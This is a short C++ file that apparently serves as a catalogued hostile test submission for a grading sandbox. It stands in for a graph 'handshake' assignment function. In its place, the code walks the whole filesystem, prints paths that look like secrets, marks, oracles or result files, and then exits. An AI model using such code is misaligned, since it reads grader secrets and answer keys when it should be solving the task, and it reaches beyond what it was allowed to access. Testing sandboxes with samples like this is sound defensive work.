// attack: read
// root: host
// what: walks over all files that it can see and prints those that look like solutions, secrets
//   and marks
// list: 3
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

static int look(const char* path, const struct stat*, int, struct FTW*) {
  for (const char* word : {"secret", "marks.csv", "submit_me", "journal", "oracle", "results.json"})
    if (strstr(path, word) != nullptr && strstr(path, "/usr/") == nullptr)
      fprintf(stderr, "handshake_seen %s\n", path);
  return strcmp(path, "/usr") == 0 || strcmp(path, "/proc") == 0 ? FTW_SKIP_SUBTREE : 0;
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  nftw("/", look, 16, FTW_PHYS | FTW_ACTIONRETVAL);
  exit(0);
}
